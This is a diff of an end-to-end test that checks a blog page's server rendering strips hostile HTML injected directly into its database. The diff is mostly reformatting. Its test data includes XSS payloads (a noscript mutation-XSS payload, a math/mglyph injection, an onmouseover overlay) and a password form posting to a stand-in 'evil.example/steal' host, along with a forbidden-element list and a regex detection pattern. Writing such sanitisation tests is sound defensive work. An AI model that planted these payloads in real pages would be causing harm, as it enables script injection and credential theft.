@@ -119,7 +119,10 @@ describe('/blog/{slug}', () => {
       await context.addInitScript(() => {
         document.addEventListener('DOMContentLoaded', () => {
           const last = document.querySelector('[data-testid="article-body"] > :last-child');
-          (window as unknown as { atParse: unknown }).atParse = [document.documentElement.hasAttribute('data-layout-each'), last && getComputedStyle(last).contentVisibility];
+          (window as unknown as { atParse: unknown }).atParse = [
+            document.documentElement.hasAttribute('data-layout-each'),
+            last && getComputedStyle(last).contentVisibility,
+          ];
         });
       });
       await page.goto(`${env.site.url}/blog/${post.slug}`);
@@ -152,11 +155,12 @@ describe('/blog/{slug}', () => {
       '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
       '<p style="position:fixed;inset:0;z-index:99" onmouseover="window.__pwned = \'hover\'">cover</p>',
       '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'mxss\'>"></p></noscript>',
-      '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=\'math\'></style></mglyph></table></mtext></math>',
+      "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='math'></style></mglyph></table></mtext></math>",
       '<a href="https://partner.example/" target="_self">partner</a>',
       '<h2>Still a heading</h2>',
     ].join('');
-    const forbidden = 'script, svg, math, iframe, object, embed, style, form, input, button, noscript, [style], [id], [onerror], [onload], [onmouseover], [href^="javascript"], [src^="javascript"]';
+    const forbidden =
+      'script, svg, math, iframe, object, embed, style, form, input, button, noscript, [style], [id], [onerror], [onload], [onmouseover], [href^="javascript"], [src^="javascript"]';
 
     // Another CMS feeding the API: the HTML goes into the database as it is, past the import's own sanitising.
     const { data } = await api<{ data: Post[] }>('/v1/blogs?lang=en');
@@ -164,7 +168,11 @@ describe('/blog/{slug}', () => {
     const { db, close } = openDatabase({ dataDir: env.site.dataDir, databaseUrl: null });
     try {
       await db.updateTable('blogs').set({ content_ar: hostile, content_en: hostile }).where('id', '=', target.id).execute();
-      await db.updateTable('meta').set({ value: `hostile-${Date.now()}` }).where('key', '=', 'content_version').execute();
+      await db
+        .updateTable('meta')
+        .set({ value: `hostile-${Date.now()}` })
+        .where('key', '=', 'content_version')
+        .execute();
     } finally {
       await close();
     }
@@ -180,7 +188,9 @@ describe('/blog/{slug}', () => {
       const serverBody = (await serverHtml())!;
       expect(serverBody).toContain('<p>Opening paragraph.</p>');
       expect(serverBody).toContain('<h2>Still a heading</h2>');
-      expect(serverBody).not.toMatch(/<(script|svg|math|iframe|object|embed|style|form|input|noscript)\b|\son\w+=|javascript:|style=|id="bad-link"|evil\.example/i);
+      expect(serverBody).not.toMatch(
+        /<(script|svg|math|iframe|object|embed|style|form|input|noscript)\b|\son\w+=|javascript:|style=|id="bad-link"|evil\.example/i,
+      );
 
       // The site's Content-Security-Policy would block inline handlers and styles that slipped
       // through; it is bypassed here so that anything left in the DOM would run: the test proves
